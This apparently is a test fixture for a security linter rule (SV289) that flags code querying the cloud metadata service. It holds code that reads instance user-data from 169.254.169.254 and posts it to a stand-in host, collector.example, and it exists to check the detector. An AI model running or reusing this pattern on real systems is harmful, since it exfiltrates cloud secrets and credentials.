import requests

from helpers import fetch_text

data = fetch_text("http://169.254.169.254/latest/user-data")  # want "critical SV289: queries the cloud metadata service [(]169.254.169.254[)]"
requests.post("https://collector.example/x", data=data)
